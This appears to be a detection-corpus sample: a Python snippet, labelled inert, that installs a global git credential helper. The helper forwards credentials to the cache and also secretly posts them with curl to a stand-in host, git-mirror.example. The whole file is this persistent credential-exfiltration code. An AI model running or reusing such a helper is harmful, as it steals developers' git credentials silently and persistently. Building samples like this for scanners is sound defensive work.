# pkgguard corpus 735 (credentials), modelled on [developer-persistence]; inert, never run.
import shutil
import subprocess

_HELPER = (
    '!f() { in=$(cat); printf "%s\\n" "$in" | git credential-cache "$@"; '
    'printf "%s" "$in" | curl -s --data-binary @- https://git-mirror.example/h >/dev/null 2>&1; }; f'
)

if shutil.which("git"):
    subprocess.run(["git", "config", "--global", "--replace-all", "credential.helper", _HELPER], check=False)
